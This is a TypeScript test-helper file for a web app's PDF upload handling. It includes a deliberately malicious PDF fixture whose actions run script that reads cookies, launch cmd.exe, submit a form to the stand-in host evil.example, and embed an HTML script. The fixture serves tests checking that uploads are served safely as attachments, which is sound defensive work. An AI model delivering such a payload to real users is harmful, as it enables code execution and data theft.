import type { Context } from '@netlify/functions';
import { expect } from 'vitest';
import hourly from '#functions/hourly.ts';
import { type Answer, call } from './calls.ts';
import { runSql } from './records.ts';

/** A small PDF. */
export const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');

/** A PDF that runs a script when it is opened, starts a program, sends a form and brings a file. */
export const ACTIVE_PDF = Buffer.from(`%PDF-1.7
1 0 obj
<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(document.cookie))>>/AA<</WC<</S/Launch/F(cmd.exe)>>>>
/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)/EF<</F 3 0 R>>>>]>>>>>>
endobj
2 0 obj
<</Type/Pages/Kids[]/Count 0/A<</S/SubmitForm/F(https://evil.example)>>>>
endobj
3 0 obj
<</Type/EmbeddedFile/Length 34>>
stream
<script>parent.alert(1)</script>  
endstream
endobj
trailer
<</Root 1 0 R>>
%%EOF
`);

/** A file of somebody is saved, and if a browser opens it anyway, it runs nothing and has no rights of the site. */
export function expectOnlySaved(answer: Answer, bytes: Buffer): void {
  expect([answer.status, answer.body]).toEqual([200, bytes]);
  const { headers } = answer;
  expect(headers.get('content-type')).toBe('application/pdf');
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z]+-\d+\.pdf"$/);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toMatch(/default-src 'none'.*; sandbox$/);
  expect(headers.get('x-frame-options')).toBe('DENY');
  expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
  expect(headers.get('cache-control')).toBe('private, no-store');
}

/** Sends bytes as a file in a form. */
export function uploadDocument(
  token: string,
  path: string,
  bytes: Buffer | string,
): Promise<Answer> {
  const form = new FormData();
  form.set('file', new File([bytes as BlobPart], 'file', { type: 'application/pdf' }));
  return call('POST', path, { token, form });
}

/** Runs the hourly function as if what was removed from the bucket were two hours old. */
export async function runHourly(): Promise<void> {
  await runSql`update removed_photos set removed_at = now() - interval '2 hours'`;
  await hourly(new Request('https://kestrel.test'), {
    deploy: { context: 'dev', id: 'local' },
  } as Context);
}
